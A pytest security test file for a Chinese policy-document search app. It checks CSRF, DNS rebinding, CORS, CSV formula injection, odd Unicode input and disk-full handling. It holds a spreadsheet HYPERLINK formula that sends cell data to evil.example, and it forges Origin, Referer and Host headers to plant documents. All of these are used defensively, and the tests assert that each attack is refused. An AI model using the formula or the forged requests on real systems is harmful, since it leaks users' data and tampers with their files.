"""The web server and the command line under attack: each case as an attacker ran it, and what a user sees now.

Long upload names, lone surrogates in questions, cross-site writes (CSRF), DNS rebinding, CORS,
formulas in the CSV export, a read-only or full index or documents folder, an add refused by the
build lock, and filters that match nothing. The app is the one `policyqa serve` serves (the UI
mounted on the API, inside ui/guard.py), run by uvicorn on 127.0.0.1 over the tiny-model index.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from policyqa.index.store import layout
from tests.support.cli import one_line_error, where
from tests.support.indexes import copy_of
from tests.support.serving import served

httpx = pytest.importorskip("httpx")

EVIL = "http://evil.example"
BODY = "测试县2025年科技工作要点\n一、总体目标\n测试县将建设{phrase}。\n"


def error_of(r, status: int) -> str:
    """The one-line JSON error of a refused request (no traceback, no HTML)."""
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/json"), r.headers
    body = r.json()
    assert set(body) == {"error"} and "\n" not in body["error"] and "Traceback" not in r.text, body
    return body["error"]


def listing(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` (hidden ones too) with its bytes: what "nothing changed" compares."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@contextlib.contextmanager
def serving(settings, **kwargs):
    """`create_app` (what `policyqa serve` serves) on 127.0.0.1; yields (client, base URL)."""
    from policyqa.ui.app import create_app

    with served(create_app(settings, **kwargs)) as url, httpx.Client(base_url=url, timeout=300) as client:
        yield client, url


@pytest.fixture(scope="module")
def site(tiny_settings, tmp_path_factory):
    """`policyqa serve --allow-writes` on 127.0.0.1 over a copy of the tiny seed index: (client, url, settings)."""
    settings = copy_of(tiny_settings, tmp_path_factory.mktemp("web"))
    with serving(settings, allow_writes=True) as (client, url):
        yield client, url, settings


@pytest.fixture()
def handlers(live):
    """The UI's event handlers (what Gradio's queue calls) over `live`."""
    from policyqa.ui.app import build_app

    blocks = build_app(live)
    return {f.fn.__name__: f.fn for f in blocks.fns.values() if f.fn is not None}


def _mount(*args) -> bool:
    return subprocess.run(["mount", *map(str, args)], capture_output=True).returncode == 0


@contextlib.contextmanager
def read_only(folder: Path):
    """`folder` read-only for real. As a normal user, chmod; as root (whom chmod does not stop) a
    read-only bind mount of it; skipped where neither is possible."""
    if os.geteuid() != 0:
        mode = folder.stat().st_mode
        for p in [folder, *folder.rglob("*")]:
            p.chmod(0o555 if p.is_dir() else 0o444)
        try:
            yield
        finally:
            for p in [folder, *folder.rglob("*")]:
                p.chmod(0o755 if p.is_dir() else 0o644)
            folder.chmod(mode)
        return
    if not _mount("--bind", folder, folder):
        pytest.skip("cannot make a read-only folder here (root without the right to mount)")
    try:
        assert _mount("-o", "remount,ro,bind", folder)
        yield
    finally:
        subprocess.run(["umount", "--lazy", str(folder)], check=True)  # lazy: a cached Searcher may still map its files


@contextlib.contextmanager
def small_disk(root: Path, size: int):
    """A file system of `size` bytes at `root` (tmpfs): a real full disk, not a simulated one."""
    root.mkdir()
    if not _mount("-t", "tmpfs", "-o", f"size={size}", "policyqa-test", root):
        pytest.skip("cannot mount a small file system here (needs root with the right to mount)")
    try:
        yield root
    finally:
        subprocess.run(["umount", "--lazy", str(root)], check=True)


def _index_bytes(index_dir: Path) -> int:
    return sum(p.stat().st_size for p in index_dir.rglob("*") if p.is_file())


def _sources(client) -> set[str]:
    return {d["source"] for d in client.get("/api/documents").json()["documents"]}


# ------------------------------------------------------------------------------------------
# Long names


def test_an_85_character_chinese_upload_name_is_cut_to_what_the_disk_takes(site, tmp_path, cli):
    """Cut at 120 characters, 90 Chinese ones are 270 bytes: `File name too long` and a 500. Now every
    name is cut to 239 bytes of UTF-8 (room left for " (2)"), the extension kept: API and `add` alike."""
    client, _, settings = site
    long = "湖北省科技厅关于进一步加强科技特派员工作站建设和管理推动乡村振兴的实施意见" * 3  # 111 characters
    r = client.post("/api/documents", files={"files": (long[:90] + ".txt", BODY.format(phrase="长名实验室").encode(), "text/plain")})
    assert r.status_code == 200, r.text
    (name,) = r.json()["added"]
    assert name.endswith(".txt") and len(name.encode()) <= 239 and long.startswith(name[:-4])
    assert (settings.corpus_dir / name).is_file() and name in _sources(client)
    assert client.delete(f"/api/documents/{name}").status_code == 200

    local = tmp_path / (long[:83] + ".txt")  # 253 bytes: the longest a file here can have
    for i in range(2):  # the second replaces the first, set aside as NAME (2) if the second comes soon enough
        local.write_text(BODY.format(phrase=f"长名实验室{i}"), encoding="utf-8")
        code, out, err = cli("add", local, *where(settings), "--quiet")
        assert code == 0 and "Traceback" not in err, err
    added = [p for p in settings.corpus_dir.iterdir() if p.name.startswith(long[:20])]
    assert len(added) == 1 and len(added[0].name.encode()) <= 239 and added[0].read_text(encoding="utf-8").endswith("长名实验室1。\n")
    assert cli("remove", added[0].name, *where(settings), "--quiet")[0] == 0


# ------------------------------------------------------------------------------------------
# Lone surrogates and bytes that are not UTF-8


def test_a_lone_surrogate_in_a_question_is_dropped_with_a_note_in_the_api(site):
    from policyqa.qa.search import DROPPED_NOTE

    client, _, _ = site
    raw = b'{"question": "\\ud800\\u79d1\\u6280\\u7279\\u6d3e\\u5458", "mode": "bm25"}'  # "\ud800科技特派员"
    r = client.post("/api/ask", content=raw, headers={"content-type": "application/json"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["question"] == "科技特派员" and DROPPED_NOTE in body["notes"] and body["results"]
    only = client.post("/api/ask", content=b'{"question": "\\udcff"}', headers={"content-type": "application/json"})
    assert "问题为空" in error_of(only, 400)
    key = client.post("/api/ask", content=b'{"question": "x", "\\ud800": 1}', headers={"content-type": "application/json"})
    assert error_of(key, 422).startswith("invalid request: ")  # echoing the key back was a reset connection
    r = client.get("/api/ask?question=%ED%A0%80%E7%A7%91%E6%8A%80&mode=bm25")  # the same, as UTF-8 bytes that are not UTF-8
    assert r.status_code == 200 and r.json()["results"], r.text
    assert client.post("/api/ask", json={"question": "科技", "city": "岳阳", "mode": "bm25"}).status_code == 200


def test_bytes_that_are_not_utf8_on_the_command_line_are_dropped_with_a_note(live, tmp_path, cli):
    """Python hands a non-UTF-8 byte of argv over as U+DC80–U+DCFF; printing or tokenizing one was a traceback."""
    from policyqa.qa.search import DROPPED_NOTE

    code, out, err = cli("ask", "\udcff\udcfe科技特派员", "--index", live.index_dir, "--model", live.model, "--mode", "bm25", "--json")
    assert code == 0 and "Traceback" not in err, err
    answer = json.loads(out)
    assert answer["question"] == "科技特派员" and DROPPED_NOTE in answer["notes"]
    code, out, err = cli("ask", "\udcff", "--index", live.index_dir, "--model", live.model, "--mode", "bm25")
    assert code == 2 and "问题为空" in one_line_error(err)
    gbk = tmp_path / "questions.txt"
    gbk.write_bytes("科技特派员\n".encode("gbk"))
    code, _, err = cli("ask", "--questions", gbk, "--index", live.index_dir, "--model", live.model)
    assert code == 2 and "is not UTF-8 (line 1); save it as UTF-8" in one_line_error(err)


def test_a_lone_surrogate_in_the_ui_is_dropped_with_a_note(handlers):
    from policyqa.qa.search import DROPPED_NOTE

    html, _ = handlers["on_search"]("\ud800科技特派员", "全部", "全部", "全部", "bm25", 5)
    assert DROPPED_NOTE in html and "error-msg" not in html and "\ud800" not in html


# ------------------------------------------------------------------------------------------
# Cross-site writes (CSRF) and DNS rebinding


def test_a_cross_site_form_post_cannot_plant_or_replace_a_document(site):
    """With --allow-writes, a page on evil.example posted a multipart form to /api/documents: a planted
    document and a replaced one. Now writes whose Origin (else Referer) is not the server's are 403."""
    client, url, settings = site
    before = listing(settings.corpus_dir)
    victim = sorted(_sources(client))[0]
    planted = ("植入.txt", BODY.format(phrase="植入实验室").encode(), "text/plain")
    replaced = (victim, BODY.format(phrase="篡改实验室").encode(), "text/plain")
    for headers in ({"Origin": EVIL}, {"Referer": f"{EVIL}/attack.html"}, {"Origin": "null"},
                    {"Origin": url.replace("127.0.0.1", "localhost")}):  # another origin on this machine is another site too
        for files in ({"files": planted}, {"files": replaced}):
            err = error_of(client.post("/api/documents", files=files, headers=headers), 403)
            assert err.startswith("cross-site request refused: a page from ") and "--cors-origin" in err
        error_of(client.delete(f"/api/documents/{victim}", headers=headers), 403)
    # the UI's writes go through Gradio's upload endpoint and event queue: refused the same way
    error_of(client.post("/gradio_api/upload", files={"files": planted}, headers={"Origin": EVIL}), 403)
    error_of(client.post("/gradio_api/queue/join", json={"fn_index": 0, "data": [], "session_hash": "x"},
                         headers={"Origin": EVIL}), 403)
    assert listing(settings.corpus_dir) == before and victim in _sources(client)
    # the server's own page, and a client that is no browser page (no Origin, no Referer), still write
    r = client.post("/api/documents", files={"files": planted}, headers={"Origin": url, "Referer": f"{url}/"})
    assert r.status_code == 200 and r.json()["added"] == ["植入.txt"], r.text
    assert client.delete("/api/documents/植入.txt").status_code == 200


def test_dns_rebinding_gets_nothing_from_a_default_server(site):
    """A page on a rebinding domain reached the UI's remove handler (Host evil.example) and could read
    all of /api. Now a Host that is not one of the server's names is refused before any route."""
    client, url, settings = site
    before = listing(settings.corpus_dir)
    port = url.rsplit(":", 1)[1]
    for path in ("/", "/api/documents", "/api/ask?question=科技", "/config", "/docs"):
        err = error_of(client.get(path, headers={"Host": f"evil.example:{port}"}), 400)
        assert err == "host evil.example is not allowed; start with: policyqa serve --allowed-host evil.example"
    rebound = {"Host": f"evil.example:{port}", "Origin": f"{EVIL}:{port}"}
    error_of(client.post("/gradio_api/queue/join", json={"fn_index": 0, "data": [], "session_hash": "x"}, headers=rebound), 400)
    error_of(client.delete(f"/api/documents/{sorted(_sources(client))[0]}", headers=rebound), 400)
    assert listing(settings.corpus_dir) == before
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "localhost"):
        assert client.get("/api/status", headers={"Host": host}).status_code == 200, host


def test_allowed_host_names_a_reverse_proxy(live, monkeypatch, cli):
    from policyqa.cli import _web_names, parser
    from policyqa.ui.guard import hosts_for, machine_names

    hosts = hosts_for("127.0.0.1", ["policy.example.org", "*.intra.example"])
    with serving(live, allow_writes=True, hosts=hosts) as (client, _):
        assert client.get("/api/status", headers={"Host": "policy.example.org"}).status_code == 200
        assert client.get("/api/status", headers={"Host": "qa.intra.example:443"}).status_code == 200
        error_of(client.get("/api/status", headers={"Host": "intra.example.evil"}), 400)
        proxied = {"Host": "policy.example.org", "Origin": "https://policy.example.org"}  # the proxy's page writes
        r = client.post("/api/documents", files={"files": ("代理.txt", BODY.format(phrase="代理实验室").encode())}, headers=proxied)
        assert r.status_code == 200, r.text
    assert set(hosts_for("0.0.0.0")) >= {"127.0.0.1", "localhost", "::1", *machine_names()}
    assert "0.0.0.0" not in hosts_for("0.0.0.0")  # a wildcard bind does not mean any Host
    monkeypatch.setenv("POLICYQA_ALLOWED_HOSTS", "a.example, b.example:8443")
    args = parser().parse_args(["serve", "--allowed-host", "c.example", "--cors-origin", "https://portal.example.org/"])
    assert _web_names(args) == (["a.example", "b.example", "c.example"], ["https://portal.example.org"])
    for bad in (["--allowed-host", "http://x.example/"], ["--cors-origin", "*"], ["--cors-origin", "https://x.example/page"]):
        code, _, err = cli("serve", "--index", live.index_dir, *bad)
        assert code == 2 and one_line_error(err).startswith(f"policyqa serve: error: {bad[0]} ")


# ------------------------------------------------------------------------------------------
# CORS


def test_no_origin_is_allowed_cross_origin_reads_unless_configured(site, live):
    """Gradio allowed any localhost origin with credentials (and any origin when the Host was not a loopback
    name). Now no Access-Control-Allow-Origin is sent unless --cors-origin names the origin."""
    client, _, _ = site
    for origin in ("http://localhost:9999", EVIL, "null"):
        for path in ("/api/ask?question=科技&mode=bm25", "/config", "/gradio_api/info"):
            r = client.get(path, headers={"Origin": origin})
            assert "access-control-allow-origin" not in r.headers and "access-control-allow-credentials" not in r.headers, (origin, path)
        pre = client.options("/api/documents", headers={"Origin": origin, "Access-Control-Request-Method": "POST"})
        assert "access-control-allow-origin" not in pre.headers
    portal = "https://portal.example.org"
    with serving(live, cors_origins=[portal]) as (c, _):
        r = c.get("/api/ask", params={"question": "科技", "mode": "bm25"}, headers={"Origin": portal})
        assert r.headers["access-control-allow-origin"] == portal and "access-control-allow-credentials" not in r.headers
        assert "access-control-allow-origin" not in c.get("/config", headers={"Origin": EVIL}).headers


# ------------------------------------------------------------------------------------------
# CSV export


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看原文")科技工作要点'


def test_formulas_in_documents_are_text_in_the_csv_export(live, cli):
    """A title, section or passage starting with = + - @ was written as is: Excel and WPS ran it."""
    (live.corpus_dir / "公式.txt").write_text(
        f"{FORMULA_TITLE}\n一、总体目标\n-2+3 公式测试县建设量子通信联合实验室。\n", encoding="utf-8")
    (live.corpus_dir / "@公式.txt").write_text("+公式测试县工作方案\n@SUM(1,2) 公式测试县量子通信实验室第二期。\n", encoding="utf-8")
    assert cli("build", *where(live), "--quiet")[0] == 0
    with serving(live) as (client, _):
        r = client.get("/api/ask.csv", params={"question": "公式测试县量子通信实验室", "mode": "bm25", "top_k": 10})
    assert r.status_code == 200
    rows = [row for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))) if "公式" in row["source"]]
    assert len(rows) >= 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    titled = next(row for row in rows if row["source"] == "公式.txt")
    assert titled["title"] == "'" + FORMULA_TITLE  # the quotes inside survive, escaped by the csv module
    assert '"=HYPERLINK' not in r.text and "'=HYPERLINK(\"\"http://evil.example" in r.text
    from policyqa.ui.export import inert

    assert [inert(v) for v in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1", "科技", 3, -1.5)] == [
        "'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "' =1", "科技", 3, -1.5]


# ------------------------------------------------------------------------------------------
# A folder that cannot be written: read-only, or a full disk


def test_a_read_only_index_folder_is_one_line_and_nothing_changes(live, tmp_path, cli, handlers):
    new = tmp_path / "只读测试.txt"
    new.write_text(BODY.format(phrase="只读实验室"), encoding="utf-8")
    docs, generation = listing(live.corpus_dir), layout.current(live.index_dir).path
    with read_only(live.index_dir):
        code, _, err = cli("add", new, *where(live), "--quiet")
        line = one_line_error(err)
        assert code == 2 and line.startswith(f"policyqa add: error: cannot write to {live.index_dir} (")
        assert line.endswith("; the index is unchanged; fix its permissions or pass --index DIR")
        html, *_ = handlers["on_upload"]([str(new)], "全部", "全部", "全部")
        assert "无法写入，未做任何改动" in html and "Traceback" not in html
        with serving(live, allow_writes=True) as (client, _):
            r = client.post("/api/documents", files={"files": (new.name, new.read_bytes(), "text/plain")})
            assert "cannot write to" in error_of(r, 503)
            error_of(client.delete(f"/api/documents/{sorted(docs)[0]}"), 503)
    assert listing(live.corpus_dir) == docs and layout.current(live.index_dir).path == generation
    assert cli("check", "--index", live.index_dir)[0] == 0


def test_a_read_only_documents_folder_is_one_line(live, tmp_path, cli):
    new = tmp_path / "只读文档.txt"
    new.write_text(BODY.format(phrase="只读文档实验室"), encoding="utf-8")
    docs = listing(live.corpus_dir)
    with read_only(live.corpus_dir):
        code, _, err = cli("add", new, *where(live), "--quiet")
        assert code == 2 and one_line_error(err).startswith(f"policyqa add: error: cannot write to {live.corpus_dir} (")
        assert "nothing was changed; fix its permissions or pass --corpus DIR" in err
        code, _, err = cli("remove", sorted(docs)[0], *where(live), "--quiet")
        assert code == 2 and "pass --corpus DIR" in one_line_error(err)
    assert listing(live.corpus_dir) == docs
    assert cli("add", new, *where(live), "--quiet")[0] == 0  # the lock was released


def test_a_full_disk_under_the_index_is_one_line_and_gives_its_space_back(live, tmp_path, cli):
    """An add on a full disk: `sqlite3.OperationalError: database or disk is full` as a traceback. Now one
    line, exit 2, the document not left in the folder, the index as it was, no partial segment left."""
    disk = tmp_path / "disk"
    with small_disk(disk, _index_bytes(live.index_dir) + 400_000):
        shutil.copytree(live.index_dir, disk / "index")
        settings = live.with_(index_dir=disk / "index")
        new = tmp_path / "满盘测试.txt"
        new.write_text(BODY.format(phrase="满盘实验室") + "科技特派员工作站建设与管理。" * 40_000, encoding="utf-8")
        docs, generation = listing(live.corpus_dir), layout.current(disk / "index").path
        code, _, err = cli("add", new, *where(settings), "--quiet")
        line = one_line_error(err)
        assert code == 2 and line == (f"policyqa add: error: disk full while writing to {disk / 'index'}; the index is unchanged; "
                                      "free space there and run again")
        assert listing(live.corpus_dir) == docs  # the copied file was taken out again
        assert not [p for p in (disk / "index").iterdir() if p.name.startswith(".tmp-")]
        assert cli("check", "--index", disk / "index")[0] == 0
        with serving(settings, allow_writes=True) as (client, _):
            r = client.post("/api/documents", files={"files": (new.name, new.read_bytes(), "text/plain")})
            assert error_of(r, 507).startswith("disk full while writing to")
            assert client.get("/api/ask", params={"question": "科技特派员", "mode": "bm25"}).status_code == 200
        assert listing(live.corpus_dir) == docs and layout.current(disk / "index").path == generation


def test_a_full_disk_under_the_documents_folder_leaves_no_partial_copy(live, tmp_path, cli):
    disk = tmp_path / "disk"
    with small_disk(disk, 2_000_000):
        shutil.copytree(live.corpus_dir, disk / "documents")
        settings = live.with_(corpus_dir=disk / "documents")
        docs = listing(disk / "documents")
        small, big = tmp_path / "a-小.txt", tmp_path / "b-大.txt"
        small.write_text(BODY.format(phrase="小文件实验室"), encoding="utf-8")
        big.write_text(BODY.format(phrase="大文件实验室") + "科技。" * 400_000, encoding="utf-8")  # 3.6 MB
        code, _, err = cli("add", small, big, *where(settings), "--quiet")
        assert code == 2 and one_line_error(err) == (f"policyqa add: error: disk full while writing to {disk / 'documents'}; "
                                                     "nothing was changed; free space there and run again")
        assert listing(disk / "documents") == docs  # neither the small file nor a part of the big one stayed


# ------------------------------------------------------------------------------------------
# An add refused by the build lock


def test_a_refused_add_or_upload_leaves_nothing_behind(live, tmp_path, cli, handlers):
    from filelock import FileLock

    new = tmp_path / "锁定测试.txt"
    new.write_text(BODY.format(phrase="锁定实验室"), encoding="utf-8")
    docs = listing(live.corpus_dir)
    with serving(live, allow_writes=True) as (client, _), FileLock(str(live.index_dir / "build.lock"), timeout=0):
        assert "another build" in error_of(client.post("/api/documents", files={"files": (new.name, new.read_bytes())}), 409)
        assert "another build" in error_of(client.delete(f"/api/documents/{sorted(docs)[0]}"), 409)
        code, _, err = cli("add", new, *where(live), "--quiet")
        assert code == 2 and "another build or update is running" in one_line_error(err)
        code, _, err = cli("remove", sorted(docs)[0], *where(live), "--quiet")
        assert code == 2 and "another build or update is running" in one_line_error(err)
        html, *_ = handlers["on_upload"]([str(new)], "全部", "全部", "全部")
        assert "另一个索引任务正在进行" in html
    assert listing(live.corpus_dir) == docs


# ------------------------------------------------------------------------------------------
# Filters that match nothing


def test_filters_that_match_nothing_say_so(site, live, cli, handlers):
    client, _, _ = site
    body = client.get("/api/ask", params={"question": "科技特派员", "year": 1999}).json()
    assert body["results"] == [] and "没有符合筛选条件的文档：年份 1999。请放宽或更换筛选条件" in body["notes"]
    body = client.post("/api/ask", json={"question": "科技特派员", "city": "火星市", "doc_type": "工作要点"}).json()
    assert any(n.startswith("没有符合筛选条件的文档：城市 火星市") for n in body["notes"])
    code, out, err = cli("ask", "科技特派员", "--year", "1999", "--index", live.index_dir, "--model", live.model, "--json")
    assert code == 0 and "没有符合筛选条件的文档：年份 1999" in json.loads(out)["notes"][0]
    code, out, _ = cli("ask", "科技特派员", "--year", "1999", "--index", live.index_dir, "--model", live.model)
    assert code == 0 and "※ 没有符合筛选条件的文档：年份 1999" in out and "未找到相关内容：没有符合条件的段落。" in out
    html, _ = handlers["on_search"]("科技特派员", "岳阳市", "2024", "全部", "hybrid", 5)  # each exists, never together
    assert "没有同时符合这些筛选条件的文档：城市 岳阳市、年份 2024" in html
    found = client.get("/api/ask", params={"question": "科技特派员", "city": "岳阳"}).json()
    assert found["results"] and not any("筛选条件" in n for n in found["notes"])
